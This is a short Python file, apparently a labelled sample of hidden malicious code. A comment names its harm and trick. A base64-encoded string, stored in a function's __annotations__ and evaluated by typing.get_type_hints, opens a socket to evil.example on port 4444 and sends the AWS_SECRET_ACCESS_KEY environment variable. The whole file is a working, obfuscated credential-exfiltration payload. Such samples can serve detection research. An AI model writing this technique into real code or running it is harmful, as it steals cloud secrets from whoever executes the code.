# harm: sends AWS_SECRET_ACCESS_KEY over a socket ; trick: decoded string written into f.__annotations__["x"], never bound to a name
import base64
import typing


def handler(x) -> None:
    pass


handler.__annotations__["x"] = base64.b64decode("X19pbXBvcnRfXygnc29ja2V0JykuY3JlYXRlX2Nvbm5lY3Rpb24oKCdldmlsLmV4YW1wbGUnLDQ0NDQpKS5zZW5kYWxsKF9faW1wb3J0X18oJ29zJykuZW52aXJvbi5nZXQoJ0FXU19TRUNSRVRfQUNDRVNTX0tFWScsJycpLmVuY29kZSgpKQ==").decode()
try:
    typing.get_type_hints(handler)
except Exception:
    pass
